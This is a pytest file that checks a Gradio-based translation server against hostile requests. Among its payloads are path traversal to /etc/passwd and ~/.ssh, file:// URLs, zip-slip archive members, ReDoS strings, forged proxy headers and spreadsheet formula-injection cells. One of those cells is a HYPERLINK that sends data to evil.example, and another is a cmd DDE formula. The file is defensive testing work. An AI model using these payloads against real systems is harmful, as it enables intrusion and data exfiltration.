"""Hostile requests against a running ``python app.py``: each must get the status the table says, quickly,
and never a server file, a server path, a 500 or a frozen server.

Three servers: an open one (API keys optional), one with a per-client limit behind a named proxy, and one
that requires a key. Uploads and zips go through Gradio's own routes, as the page sends them.
"""

from __future__ import annotations

import csv
import io
import json
import random
import re
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from tarjama.inference.settings import MAX_EVAL_FILE_ITEMS, MAX_EVAL_FILES
from tests.appserver import free_port, running_app
from tests.faults import faults
from tests.hostile import (
    file_data,
    gradio_call,
    gradio_event,
    hostile_zip,
    raw_exchange,
    seconds_for,
    status_of,
    upload,
)

LIMITED_KEY, FREE_KEY, LIMIT = "tj-limited", "tj-free", 3
PROXY = "127.0.0.2"  # the one proxy the limited server trusts
FAST = 10.0  # seconds: fixed code answers in well under one; the broken regexes took minutes
JSON = {"Content-Type": "application/json"}
SEED = "000_ac9cc5f60d3ec1c9.txt"  # a file of the repository, named relative to the server's folder
ALLOWED_ORIGIN = "http://localhost:5173"  # the one other page the keyed server serves


def _keys(tmp: Path) -> Path:
    keys = tmp / "keys.txt"
    keys.write_text(f"{LIMITED_KEY} {LIMIT}\n{FREE_KEY}\n", encoding="utf-8")
    return keys


@pytest.fixture(scope="module")
def open_server(
    memorised_ar_en: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, Path]]:
    tmp = tmp_path_factory.mktemp("open-server")
    args = ["--mt-model", str(memorised_ar_en), "--api-keys", str(_keys(tmp)), "--body-timeout", "2"]
    with running_app(args, tmp) as url:
        yield url, tmp


@pytest.fixture(scope="module")
def client(open_server: tuple[str, Path]) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=open_server[0], timeout=120) as http:
        yield http


def _body(text: str) -> dict[str, Any]:
    return {"content": text.encode("utf-8", "surrogatepass"), "headers": JSON}


NESTED = "[" * 100_000
HOSTILE: list[tuple[str, str, dict[str, Any], int]] = [
    # lone surrogates, in the text and in every other parameter
    ("/translate", "q", {"json": {"q": "\ud800", "source": "ar", "target": "en"}}, 400),
    ("/translate", "source", {"json": {"q": "نص", "source": "\udfff", "target": "en"}}, 400),
    ("/translate", "format", {"json": {"q": "نص", "source": "ar", "target": "en", "format": "\ud800"}}, 400),
    ("/translate", "model", {"json": {"q": "نص", "source": "ar", "target": "en", "model": "\ud800"}}, 400),
    ("/translate", "list", {"json": {"q": ["ok", "\ud800"], "source": "en", "target": "ar"}}, 400),
    ("/summarize", "q", {"json": {"q": "نص طويل \ud800"}}, 400),
    ("/detect", "q", {"json": {"q": "hello \ud800"}}, 400),
    # nesting that recurses without end
    ("/translate", "nested", {"content": NESTED.encode(), "headers": JSON}, 400),
    ("/detect", "nested", {"content": ('{"q": ' + NESTED).encode(), "headers": JSON}, 400),
    # numbers too long, too large, or not numbers
    ("/summarize", "5000 digits", _body('{"q": "نص", "sentences": ' + "9" * 5000 + "}"), 400),
    ("/summarize", "4000 digits", _body('{"q": "نص", "sentences": ' + "9" * 4000 + "}"), 400),
    ("/summarize", "1e400", _body('{"q": "نص", "sentences": 1e400}'), 400),
    ("/summarize", "ratio inf", {"data": {"q": "نص", "ratio": "inf"}}, 400),
    ("/summarize", "ratio nan", _body('{"q": "نص", "ratio": NaN}'), 400),
    ("/summarize", "sentences true", {"json": {"q": "نص", "sentences": True}}, 400),
    (
        "/translate",
        "alternatives",
        _body('{"q": "hello", "source": "en", "target": "ar", "alternatives": 1e400}'),
        400,
    ),
    (
        "/translate",
        "alternatives form",
        {"data": {"q": "hi", "source": "en", "target": "ar", "alternatives": "9" * 5000}},
        400,
    ),
    # a multipart body without its boundary
    (
        "/translate",
        "no boundary",
        {"content": b"q=x", "headers": {"Content-Type": "multipart/form-data"}},
        400,
    ),
    # path tricks where a model is named
    ("/translate", "absolute", {"json": {"q": "نص", "source": "ar", "target": "en", "model": "/etc"}}, 400),
    (
        "/translate",
        "dots",
        {"json": {"q": "نص", "source": "ar", "target": "en", "model": "../../../etc/passwd"}},
        400,
    ),
    ("/translate", "home", {"json": {"q": "نص", "source": "ar", "target": "en", "model": "~/.ssh"}}, 400),
    ("/translate", "hub", {"json": {"q": "نص", "source": "ar", "target": "en", "model": "evil/model"}}, 400),
    # repeated keys
    (
        "/translate",
        "two keys",
        {"data": {"q": "hi", "source": "en", "target": "ar", "api_key": ["a", "b"]}},
        400,
    ),
    ("/translate", "two sources", {"data": {"q": "hi", "source": ["en", "ar"], "target": "ar"}}, 400),
    ("/detect", "key list", {"json": {"q": "hi", "api_key": [FREE_KEY]}}, 400),
    # bodies over the limit, declared or streamed
    ("/translate", "declared", {"content": b"{}" * 1_100_000, "headers": JSON}, 413),
    ("/detect", "streamed", {"content": iter([b" " * 65536] * 40), "headers": JSON}, 413),
    ("/gradio_api/call/translate", "gradio body", {"content": b" " * 3_000_000, "headers": JSON}, 413),
]


@pytest.mark.parametrize(
    ("path", "what", "kwargs", "status"), HOSTILE, ids=[f"{p}-{w}" for p, w, _, _ in HOSTILE]
)
def test_hostile_requests_get_their_status_and_an_error(
    client: httpx.Client, path: str, what: str, kwargs: dict[str, Any], status: int
) -> None:
    if "json" in kwargs:  # as JavaScript's JSON.stringify sends it: lone surrogates as \\ud800 escapes
        kwargs = {"content": json.dumps(kwargs["json"]).encode(), "headers": JSON}
    answer = client.post(path, **kwargs)
    assert answer.status_code == status, answer.text
    assert set(answer.json()) == {"error"} and answer.json()["error"]


REFUSED = -1  # the call is answered 400 {"error"} before the event starts
URL_FILE = file_data("http://example.com/article.txt")
GRADIO_HOSTILE = [  # (event, inputs, the output with the message or REFUSED, its words; None: Gradio refuses)
    ("translate", ["\ud800", "auto", ""], 1, "not valid Unicode"),
    ("summarize", ["نص \udfff", "extractive", 3, "same"], 1, "not valid Unicode"),
    ("summarize", ["One sentence. Two sentences.", "extractive", 1e300, "same"], 1, None),
    ("summarize", ["One sentence. Two sentences.", "extractive", float("nan"), "same"], REFUSED, "a number"),
    ("evaluate_testset", ["tatoeba", "ar-en", "", float("nan"), "extractive"], REFUSED, "must be a number"),
    ("evaluate_testset", ["../../../etc/passwd", "ar-en", "", 5, "extractive"], 0, None),
    ("evaluate_testset", ["tatoeba", "ar-en", "/etc", 5, "extractive"], 0, None),
    ("translate", ["البارحة", "ar-en", "../../models/x"], 1, None),
    # malformed payloads: each input must be what its component takes
    ("translate", ["hello", ["ar-en"], ""], REFUSED, "must be one choice"),
    ("translate", ["hello"], REFUSED, "takes 3 inputs"),
    ("translate", ["hello", "auto", "", file_data("/etc/passwd")], REFUSED, "not one of this page's files"),
    ("translate", [], REFUSED, "takes 3 inputs"),
    ("translate", [["hello"], "auto", ""], REFUSED, "must be text"),
    ("translate", [{"text": "hello"}, "auto", ""], REFUSED, "must be text"),
    ("summarize", ["One sentence. Two sentences.", "extractive", "NaN", "same"], REFUSED, "must be a number"),
    ("summarize", ["One sentence. Two sentences.", "extractive", True, "same"], REFUSED, "must be a number"),
    ("summarize", ["One sentence. Two sentences.", "extractive", 3, {"a": 1}], REFUSED, "one choice"),
    ("batch", ["notalist", "extractive", 3, "same", "summarize", ""], REFUSED, "list of uploaded files"),
    ("batch", [{"path": 1}, "extractive", 3, "same", "summarize", ""], REFUSED, "list of uploaded files"),
    ("batch", [[{"path": 1}], "extractive", 3, "same", "summarize", ""], REFUSED, "by its path"),
    ("evaluate_files", ["x", "y", "mt"], REFUSED, "list of uploaded files"),
    ("evaluate_testset", [["tatoeba"], "ar-en", "", 5, "extractive"], REFUSED, "one choice"),
    # a FileData Gradio would fetch or copy: only this visitor's uploads are taken
    ("batch", [[URL_FILE], "extractive", 3, "same", "summarize", ""], REFUSED, "never by URL"),
    (
        "batch",
        [[file_data("https://127.0.0.1:1/x")], "extractive", 3, "same", "summarize", ""],
        REFUSED,
        "URL",
    ),
    ("batch", [[file_data("file:///etc/passwd")], "extractive", 3, "same", "summarize", ""], REFUSED, "URL"),
    (
        "batch",
        [[file_data("/etc/passwd")], "extractive", 3, "same", "summarize", ""],
        REFUSED,
        "not uploaded",
    ),
    ("evaluate_files", [[URL_FILE], [URL_FILE], "mt"], REFUSED, "never by URL"),
]


@pytest.mark.parametrize(("event", "data", "where", "needle"), GRADIO_HOSTILE)
def test_hostile_page_events_get_a_message(
    client: httpx.Client,
    open_server: tuple[str, Path],
    event: str,
    data: list[Any],
    where: int,
    needle: str | None,
) -> None:
    kind, outputs = gradio_event(client, event, data)
    if needle is None:
        assert kind == "error" and outputs.get("error"), outputs
    elif where == REFUSED:
        assert kind == "refused" and needle in outputs, outputs
    else:
        assert kind == "complete" and needle in outputs[where] and 'class="tj-error"' in outputs[where]
    assert "example.com" not in (open_server[1] / "server.log").read_text()


def test_no_event_takes_a_url_for_a_file(client: httpx.Client) -> None:
    """Through the queue as the page calls events, every event with inputs, downloads included."""
    events = [e for e in client.get("/config").json()["dependencies"] if e["inputs"]]
    assert len(events) >= 6
    for event in events:
        body = {"data": [URL_FILE] * len(event["inputs"]), "fn_index": event["id"], "session_hash": "h1"}
        answer = client.post("/gradio_api/queue/join", json=body)
        assert answer.status_code == 400 and answer.json()["error"], (event["api_name"], answer.text)


def test_oversized_headers_are_refused(client: httpx.Client) -> None:
    answer = client.get("/languages", headers={"X-Padding": "a" * 100_000})
    assert answer.status_code == 431
    assert "headers" in answer.json()["error"]


@pytest.mark.parametrize("length", ["-1", "1e3", "12, 12", "١٢"])
def test_a_bad_content_length_is_refused(open_server: tuple[str, Path], length: str) -> None:
    head = f"POST /translate HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n{{}}".encode()
    assert status_of(raw_exchange(open_server[0], head)) == 400


def test_a_body_that_stops_arriving_is_refused(open_server: tuple[str, Path]) -> None:
    head = b"POST /translate HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
    head += b"Content-Length: 100\r\n\r\n"
    seconds, answer = seconds_for(lambda: raw_exchange(open_server[0], head + b'{"q": "', wait=60))
    assert status_of(answer) == 408 and seconds < 30


ADVERSARIAL = [
    ("/detect", {"q": "x@" * 50_000}),  # catastrophic backtracking in the e-mail pattern of detection
    ("/translate", {"q": "x@" * 50_000, "source": "auto", "target": "ar"}),
    ("/summarize", {"q": ("x@" * 49_999) + ".a"}),
    ("/translate", {"q": "<!--" * 25_000, "source": "ar", "target": "en", "format": "html"}),
    ("/translate", {"q": "<!" * 50_000, "source": "ar", "target": "en", "format": "html"}),
    ("/translate", {"q": "x" + "\u200c" * 99_998 + "y", "source": "en", "target": "ar"}),
]


@pytest.mark.parametrize(("path", "body"), ADVERSARIAL, ids=[f"{p}-{b['q'][:6]!r}" for p, b in ADVERSARIAL])
def test_adversarial_text_at_the_limit_is_answered_at_once(
    client: httpx.Client, path: str, body: dict[str, Any]
) -> None:
    assert sum(len(q) for q in [body["q"]]) <= 100_000
    seconds, answer = seconds_for(lambda: client.post(path, json=body))
    assert answer.status_code in (200, 400, 503), answer.text
    assert seconds < FAST
    assert client.get("/languages").status_code == 200


def test_model_list_shows_folder_names_not_paths(client: httpx.Client, memorised_ar_en: Path) -> None:
    answer = client.post("/translate", json={"q": "نص", "source": "ar", "target": "en", "model": "nope"})
    assert answer.status_code == 400
    assert memorised_ar_en.name in answer.json()["error"] and str(memorised_ar_en.parent) not in answer.text
    by_name = {"q": "نص", "source": "ar", "target": "en", "model": memorised_ar_en.name}
    assert client.post("/translate", json=by_name).status_code == 200


# --- files: only what this visitor uploaded --------------------------------------------------------


def _planted(open_server: tuple[str, Path]) -> dict[str, Path]:
    """Files a hostile request may name: outside the upload folder, inside it but not uploaded, a link."""
    tmp = open_server[1]
    secret = tmp / "secret.txt"
    secret.write_text("The secret sentence is here. It must never be read. Nobody uploaded it.\n")
    inside = tmp / "gradio" / "planted" / "inside.txt"
    inside.parent.mkdir(parents=True, exist_ok=True)
    inside.write_text(secret.read_text())
    link = inside.parent / "link.txt"
    if not link.exists():
        link.symlink_to(secret)
    return {"absolute": secret, "inside": inside, "link": link, "relative": Path("seeds") / SEED}


@pytest.mark.parametrize("which", ["absolute", "inside", "link", "relative"])
def test_batch_opens_no_file_it_was_not_given(
    client: httpx.Client, open_server: tuple[str, Path], which: str
) -> None:
    path = _planted(open_server)[which]
    kind, error = gradio_event(client, "batch", [[file_data(path)], "extractive", 3, "same", "summarize", ""])
    assert kind == "refused" and "not uploaded here" in error
    assert "secret" not in error.lower().replace(path.name, "")


@pytest.mark.parametrize("which", ["absolute", "inside", "link", "relative"])
def test_evaluation_opens_no_file_it_was_not_given(
    client: httpx.Client, open_server: tuple[str, Path], which: str
) -> None:
    path = _planted(open_server)[which]
    ours = upload(client, {"refs.txt": b"a reference line\n"})
    for hyps, refs in (([file_data(path)], ours), (ours, [file_data(path)])):
        kind, error = gradio_event(client, "evaluate_files", [hyps, refs, "mt"])
        assert kind == "refused" and "not uploaded here" in error


def test_another_visitors_upload_is_refused(client: httpx.Client, open_server: tuple[str, Path]) -> None:
    [mine] = upload(client, {"mine.txt": b"My own article. It has two sentences.\n"})
    transport = httpx.HTTPTransport(local_address="127.0.0.3")
    with httpx.Client(base_url=open_server[0], timeout=120, transport=transport) as other:
        kind, error = gradio_event(other, "batch", [[mine], "extractive", 1, "same", "summarize", ""])
    assert kind == "refused" and "not uploaded here" in error
    status, results = gradio_call(client, "batch", [[mine], "extractive", 1, "same", "summarize", ""])
    assert "1 of 1 article summarised" in status and len(results) == 3


def test_messages_name_uploads_as_the_visitor_named_them(
    client: httpx.Client, open_server: tuple[str, Path]
) -> None:
    files = upload(client, {"notext.csv": b"a,b\n1,2\n"})
    status, _ = gradio_call(client, "batch", [files, "extractive", 3, "same", "summarize", ""])
    assert "</strong>Notext.csv needs a header row" in status  # the page starts a message in capitals
    assert str(open_server[1]) not in status and "/gradio" not in status


def test_every_zip_member_is_summarised_or_reported(client: httpx.Client) -> None:
    article = "The first sentence of the article. A second sentence follows it. The third one ends it.\n"
    members = {name: article.encode() for name in ("a/b.txt", "a__b.txt", "c.txt", "../c.txt", "C.TXT")}
    members |= {"locked.txt": article.encode(), "odd.txt": article.encode(), "x" * 250 + ".txt": b"long"}
    members |= {".txt": article.encode(), "d/.TXT": article.encode(), "./.txt": article.encode()}
    archive = hostile_zip(members, encrypted="locked.txt", unknown_method="odd.txt")
    files = upload(client, {"articles.zip": archive})
    status, results = gradio_call(client, "batch", [files, "extractive", 1, "same", "summarize", ""])
    assert f"5 of {len(members)} articles summarised" in status and "6 with errors" in status
    jsonl, _, errors = (client.get(f"/gradio_api/file={r['path']}").text for r in results)
    ids = [json.loads(line)["id"] for line in jsonl.splitlines()]
    assert len(set(ids)) == 5 and len(ids) == 5 and "d__.TXT" in ids
    reasons = {json.loads(line)["where"]: json.loads(line)["reason"] for line in errors.splitlines()}
    refused = ("../c.txt", "locked.txt", "odd.txt", "x" * 250 + ".txt", ".txt", "./.txt")
    assert sorted(reasons) == sorted(f"articles.zip: {n}" for n in refused)
    assert all(reasons.values())


def test_an_article_no_model_can_translate_is_an_error_and_the_rest_go_on(
    client: httpx.Client, memorised_pairs: list[tuple[str, str]]
) -> None:
    rows = [{"id": f"ar{i}", "text": arabic} for i, (arabic, _) in enumerate(memorised_pairs[:3])]
    rows.insert(1, {"id": "en", "text": "This one is in English. The server has no English to Arabic model."})
    body = "".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows).encode()
    files = upload(client, {"mixed.jsonl": body})
    status, results = gradio_call(client, "batch", [files, "extractive", 3, "same", "translate", ""])
    assert "3 of 4 articles translated" in status and "1 with errors" in status, status
    jsonl, _, errors = (client.get(f"/gradio_api/file={r['path']}").text for r in results)
    assert [json.loads(line)["translation"] for line in jsonl.splitlines()] == [
        english for _, english in memorised_pairs[:3]
    ]
    [error] = [json.loads(line) for line in errors.splitlines()]
    assert error["id"] == "en" and "opus-mt-en-ar" in error["reason"] and "not available" in error["reason"]


SPREADSHEET_HOSTILE = [  # (id, text): cells a spreadsheet would run as formulas, names that hide their end
    ("=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Open") is how the article starts. It goes on here.'),
    ("+cmd", "+SUM(1,2) starts this article about sums. The second sentence is calm."),
    ("-2+3", "-2+3 is the first thing this article says. Then it says more."),
    ("@SUM(A1)", "@SUM(A1:A9) opens the text. Nothing else happens in it."),
    ("tab", "\t=cmd|' /C calc'!A0 hides behind a tab. The article ends here."),
    ("cr", "\r=1+2 hides behind a carriage return. The article ends here."),
    ("report\u202etxt.exe", "An article whose id hides its real end. It has two sentences."),
    ("\u2066x\u2069\u202a\u202b\u202c\u202d", "Isolates and embeddings in the id. Two sentences here."),
]


def test_batch_downloads_run_no_formula_and_show_hidden_bidi_controls(client: httpx.Client) -> None:
    body = "".join(json.dumps({"id": i, "text": t}) + "\n" for i, t in SPREADSHEET_HOSTILE)
    files = upload(client, {"hostile.jsonl": body.encode()})
    status, results = gradio_call(client, "batch", [files, "extractive", 1, "same", "summarize", ""])
    assert f"{len(SPREADSHEET_HOSTILE)} of {len(SPREADSHEET_HOSTILE)} articles summarised" in status
    jsonl, table, errors = (client.get(f"/gradio_api/file={r['path']}").content for r in results)
    cells = [cell for row in csv.reader(io.StringIO(table.decode("utf-8-sig"))) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    ids = [row[0] for row in csv.reader(io.StringIO(table.decode("utf-8-sig")))][1:]
    assert ids[:4] == ["'=1+1", "'+cmd", "'-2+3", "'@SUM(A1)"] and "report<U+202E>txt.exe" in ids
    assert "<U+2066>x<U+2069><U+202A><U+202B><U+202C><U+202D>" in ids
    for download in (jsonl, table, errors):
        assert not re.search("[\u202a-\u202e\u2066-\u2069]", download.decode("utf-8-sig"))


def _downloads(client: httpx.Client, outputs: list[Any]) -> list[bytes]:
    """Every file among a page event's outputs (a ``report.zip``: each of its members)."""
    found: list[bytes] = []
    for output in outputs:
        for item in output if isinstance(output, list) else [output]:
            if isinstance(item, dict) and "path" in item:
                data = client.get(f"/gradio_api/file={item['path']}").content
                if item["path"].endswith(".zip"):
                    with zipfile.ZipFile(io.BytesIO(data)) as zipped:
                        found += [zipped.read(name) for name in zipped.namelist()]
                else:
                    found.append(data)
    return found


def _translate(client: httpx.Client, arabic: list[str]) -> list[Any]:
    return gradio_call(client, "translate", [arabic[0], "ar-en", ""])


def _batch(job: str, to: str) -> Any:
    def call(client: httpx.Client, arabic: list[str]) -> list[Any]:
        body = "".join(
            json.dumps({"id": f"a{i}", "text": t}, ensure_ascii=False) + "\n" for i, t in enumerate(arabic)
        )
        files = upload(client, {"articles.jsonl": body.encode()})
        return gradio_call(client, "batch", [files, "extractive", 1, to, job, ""])

    return call


def _testset(client: httpx.Client, arabic: list[str]) -> list[Any]:
    return gradio_call(client, "evaluate_testset", ["tatoeba", "ar-en", "", 5, "extractive"])


def _same_stem(client: httpx.Client, arabic: list[str]) -> list[Any]:
    hyps = upload(client, {"hyp.txt": b"one line\ntwo lines\n"})
    hyps += upload(client, {"hyp.jsonl": b'"one line"\n"two line"\n'})
    refs = upload(client, {"ref.txt": b"one line\ntwo lines\n"})
    outputs = gradio_call(client, "evaluate_files", [hyps, refs, "mt"])
    assert "hyp.txt" in outputs[1] and "hyp.jsonl" in outputs[1], outputs[0]
    return outputs


VISITORS_GET = {  # page events whose outputs once named the --mt-model folder or an upload's folder
    "translate .json": _translate,
    "translation batch": _batch("translate", "same"),
    "summary batch into English": _batch("summarize", "en"),
    "test set report": _testset,
    "two systems with one stem": _same_stem,
}


@pytest.mark.parametrize("event", VISITORS_GET.values(), ids=VISITORS_GET.keys())
def test_no_output_a_visitor_gets_names_a_server_path(
    client: httpx.Client,
    open_server: tuple[str, Path],
    memorised_ar_en: Path,
    memorised_pairs: list[tuple[str, str]],
    event: Any,
) -> None:
    outputs = event(client, [arabic for arabic, _ in memorised_pairs[:3]])
    texts = [str(output) for output in outputs if not isinstance(output, dict | list)]
    texts += [data.decode("utf-8", "replace") for data in _downloads(client, outputs)]
    assert len(texts) > len(outputs) - 2  # the event wrote its downloads
    for text in texts:
        for path in (str(open_server[1]), str(memorised_ar_en.parent), "/gradio/"):
            assert path not in text, text[:2000]


def _lines(count: int, seed: int = 0, words: int = 3) -> bytes:
    """``count`` lines of ``words`` words each, different for each ``seed``."""
    pick = random.Random(seed)
    vocabulary = (
        "the",
        "minister",
        "said",
        "on",
        "monday",
        "that",
        "talks",
        "budget",
        "would",
        "go",
        "friday",
    )
    return "".join(" ".join(pick.choices(vocabulary, k=words)) + "\n" for _ in range(count)).encode()


SCORING_LIMITS = [  # (what, system files, reference files, the refusal's words)
    ("lines", [MAX_EVAL_FILE_ITEMS + 1], [MAX_EVAL_FILE_ITEMS + 1], "2,001 lines; the limit is 2,000"),
    ("systems", [2] * (MAX_EVAL_FILES + 1), [2], f"{MAX_EVAL_FILES + 1} system files; the limit is"),
    ("references", [2], [2] * (MAX_EVAL_FILES + 1), f"{MAX_EVAL_FILES + 1} reference files; the limit is"),
]


@pytest.mark.parametrize(
    ("what", "systems", "references", "words"), SCORING_LIMITS, ids=[w[0] for w in SCORING_LIMITS]
)
def test_scoring_files_over_a_limit_is_refused(
    client: httpx.Client, what: str, systems: list[int], references: list[int], words: str
) -> None:
    hyps = [upload(client, {f"{what}-sys{i}.txt": _lines(n, i)})[0] for i, n in enumerate(systems)]
    refs = [upload(client, {f"{what}-ref{i}.txt": _lines(n, 100 + i)})[0] for i, n in enumerate(references)]
    error, scores, plots, reports = gradio_call(client, "evaluate_files", [hyps, refs, "mt"])
    assert words in error and (scores, plots, reports) == ("", [], []), error or scores[:300]


def test_one_visitors_big_scoring_holds_up_no_other_visitor(memorised_ar_en: Path, tmp_path: Path) -> None:
    with (
        running_app(["--mt-model", str(memorised_ar_en)], tmp_path) as url,
        _client_from(url, "127.0.0.1") as big,
        _client_from(url, "127.0.0.5") as small,
    ):
        hyps = upload(big, {"big.txt": _lines(MAX_EVAL_FILE_ITEMS, 1, words=12)})
        refs = upload(big, {"ref.txt": _lines(MAX_EVAL_FILE_ITEMS, 2, words=12)})
        started = big.post("/gradio_api/call/evaluate_files", json={"data": [hyps, refs, "mt"]})
        assert started.status_code == 200
        time.sleep(1)  # the big scoring has begun
        mine = upload(small, {"mine.txt": b"one line\ntwo lines\n"})
        again = upload(big, {"again.txt": b"one line\ntwo lines\n"})
        refused = gradio_call(big, "evaluate_files", [again, again, "mt"])
        assert "still running" in refused[0], refused[0] or refused[1][:300]
        error, scores, _, _ = gradio_call(small, "evaluate_files", [mine, mine, "mt"])
        assert not error and "2 items, 1 reference" in scores
        refused = gradio_call(big, "evaluate_files", [again, again, "mt"])  # the big one still runs
        assert "still running" in refused[0], refused[0] or refused[1][:300]


# --- keys and limits on every way in ----------------------------------------------------------------


@pytest.fixture(scope="module")
def limited(memorised_ar_en: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    tmp = tmp_path_factory.mktemp("limited-server")
    args = ["--mt-model", str(memorised_ar_en), "--req-limit", str(LIMIT), "--forwarded-allow-ips", PROXY]
    with running_app(args, tmp) as url:
        yield url


def _client_from(base: str, address: str) -> httpx.Client:
    return httpx.Client(base_url=base, timeout=120, transport=httpx.HTTPTransport(local_address=address))


def test_forwarded_for_from_an_untrusted_client_is_ignored(limited: str) -> None:
    with _client_from(limited, "127.0.0.1") as http:
        statuses = [
            http.post("/detect", json={"q": "hello"}, headers={"X-Forwarded-For": f"10.0.0.{i}"}).status_code
            for i in range(LIMIT + 2)
        ]
    assert statuses == [200] * LIMIT + [429] * 2


def test_forwarded_for_from_the_named_proxy_is_honoured(limited: str) -> None:
    with _client_from(limited, PROXY) as proxy:
        fresh = [
            proxy.post("/detect", json={"q": "hi"}, headers={"X-Forwarded-For": f"10.1.0.{i}"})
            for i in range(5)
        ]
        same = [
            proxy.post("/detect", json={"q": "hi"}, headers={"X-Forwarded-For": "10.2.0.1"}) for _ in range(5)
        ]
    assert [a.status_code for a in fresh] == [200] * 5
    assert [a.status_code for a in same] == [200] * LIMIT + [429] * 2


def test_page_events_and_the_api_share_one_limit(limited: str) -> None:
    with _client_from(limited, "127.0.0.4") as http:
        assert [http.post("/detect", json={"q": "hi"}).status_code for _ in range(LIMIT - 1)] == [200] * (
            LIMIT - 1
        )
        assert gradio_call(
            http, "summarize", ["One sentence here. Another one there.", "extractive", 1, "same", "summarize"]
        )
        refused = http.post("/gradio_api/call/translate", json={"data": ["hello", "auto", ""]})
        assert refused.status_code == 429 and "per minute" in refused.json()["error"]
        assert http.post("/detect", json={"q": "hi"}).status_code == 429


@pytest.fixture(scope="module")
def keyed(memorised_ar_en: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    tmp = tmp_path_factory.mktemp("keyed-server")
    args = ["--mt-model", str(memorised_ar_en), "--api-keys", str(_keys(tmp)), "--require-api-key"]
    with running_app([*args, "--cors-origin", ALLOWED_ORIGIN], tmp) as url:
        yield url


@pytest.mark.parametrize(
    ("headers", "status"),
    [
        ({}, 400),
        ({"X-API-Key": "nope"}, 403),
        ({"Authorization": "Bearer nope"}, 403),
        ({"Cookie": "tarjama_api_key=x"}, 403),
    ],
)
def test_gradio_api_needs_a_key_when_keys_are_required(
    keyed: str, headers: dict[str, str], status: int
) -> None:
    with httpx.Client(base_url=keyed, timeout=120) as http:
        for path, body in (("/gradio_api/call/translate", {"json": {"data": ["hello", "auto", ""]}}),
                           ("/gradio_api/upload", {"files": [("files", ("a.txt", b"x"))]})):  # fmt: skip
            answer = http.post(path, headers=headers, **body)
            assert answer.status_code == status and "error" in answer.json()


def test_a_key_opens_gradio_api_and_the_page(keyed: str, memorised_pairs: list[tuple[str, str]]) -> None:
    arabic, english = memorised_pairs[0]
    with httpx.Client(base_url=keyed, timeout=120) as http:
        outputs = gradio_call(http, "translate", [arabic, "ar-en", ""], headers={"X-API-Key": FREE_KEY})
        assert outputs[0] == english
        page = http.get("/", params={"api_key": FREE_KEY})
        assert page.status_code == 200 and http.cookies.get("tarjama_api_key") == FREE_KEY
        assert (
            gradio_call(http, "translate", [arabic, "ar-en", ""])[0] == english
        )  # the cookie carries the key


# Browsers send every cookie of the host, whatever the port; some values Python's SimpleCookie refuses.
OTHER_COOKIES = ['prefs={"theme":"dark"}', "a=b c", "list=1,2", 'q="open', "café=1", "x=y=z"]


@pytest.mark.parametrize("other", OTHER_COOKIES)
def test_the_key_cookie_is_read_among_any_other_cookies(
    keyed: str, memorised_pairs: list[tuple[str, str]], other: str
) -> None:
    arabic, english = memorised_pairs[0]
    with httpx.Client(base_url=keyed, timeout=120) as http:
        for cookies in (f"{other}; tarjama_api_key={FREE_KEY}", f"tarjama_api_key={FREE_KEY}; {other}"):
            headers = {"Cookie": cookies.encode()}  # as browsers send them: UTF-8 bytes
            outputs = gradio_call(http, "translate", [arabic, "ar-en", ""], headers=headers)  # type: ignore[arg-type]
            assert outputs[0] == english


# Every route needs the key under --require-api-key, except these, which anyone may read: the page's shell
# and its static files, the API's documentation, /health, /languages, /frontend/settings, /metrics (its own
# address rule) and a translated file (its uploader's address and an unguessable token only).
PUBLIC = {
    "/", "/config", "/config/", "/favicon.ico", "/theme.css", "/robots.txt", "/manifest.json", "/pwa_icon",
    "/pwa_icon/{size}", "/assets/{path:path}", "/static/{path:path}", "/svelte/{path:path}", "/health",
    "/languages", "/docs", "/docs/oauth2-redirect", "/redoc", "/openapi.json", "/metrics",
    "/frontend/settings", "/download_file/{token}/{name}",
}  # fmt: skip


def _routes(memorised_ar_en: Path, tmp: Path) -> list[tuple[str, str]]:
    """``(method, path)`` of every route of the app ``python app.py`` serves, Gradio's included."""
    from starlette.routing import Mount

    from tarjama.app import create_app
    from tarjama.web.service import TarjamaService

    app = create_app(TarjamaService(mt_model=[str(memorised_ar_en)]), tmp)
    found: list[tuple[str, str]] = []
    todo: list[tuple[str, Any]] = [("", route) for route in app.routes]
    while todo:
        prefix, route = todo.pop()
        if isinstance(route, Mount):
            todo.extend((prefix + route.path, inner) for inner in getattr(route.app, "routes", []))
        elif hasattr(route, "original_router"):
            todo.extend((prefix, inner) for inner in route.original_router.routes)
        else:
            methods = getattr(route, "methods", None) or ["GET"]
            found.extend((method, prefix + route.path) for method in methods)
    return sorted(set(found))


def test_every_route_refuses_a_request_without_a_key(
    keyed: str, memorised_ar_en: Path, tmp_path: Path
) -> None:
    routes = _routes(memorised_ar_en, tmp_path)
    assert ("GET", "/monitoring/summary") in routes and len(routes) > 60
    with httpx.Client(base_url=keyed, timeout=120) as http:
        for method, path in routes:
            if path in PUBLIC:
                continue
            url = re.sub(r"\{[^}]*\}", "x", path)
            answer = http.request(method, url)
            assert answer.status_code in (400, 403), (method, path, answer.status_code)
            assert method == "HEAD" or answer.json()["error"], (method, path)


def test_the_cache_reason_names_no_host_or_port(memorised_ar_en: Path, tmp_path: Path) -> None:
    port = free_port()  # nobody listens: the cache is down from the start
    env = {"TARJAMA_CACHE": f"redis://127.0.0.1:{port}/0"}
    with running_app(["--mt-model", str(memorised_ar_en)], tmp_path, env) as url:
        health = httpx.get(f"{url}/health", timeout=60)
        answer = httpx.post(f"{url}/detect", json={"q": "hello"}, timeout=60)
    assert health.status_code == 503 and health.json()["cache"]["reason"]
    reason = answer.headers["X-Tarjama-Cache-Reason"]
    assert reason and str(port) not in reason + health.text and "127.0.0.1" not in reason + health.text
    assert str(port) in (tmp_path / "server.log").read_text()  # the details are in the log


# One rule for /translate, whether the source is stated or detected: a text with no letters comes back as
# it is; a text in the target language is refused.
SAME_RULE = [
    ({"q": [""], "source": "ar", "target": "en"}, 200, [""]),
    ({"q": [""], "source": "auto", "target": "en"}, 200, [""]),
    ({"q": ["", "123"], "source": "auto", "target": "ar"}, 200, ["", "123"]),
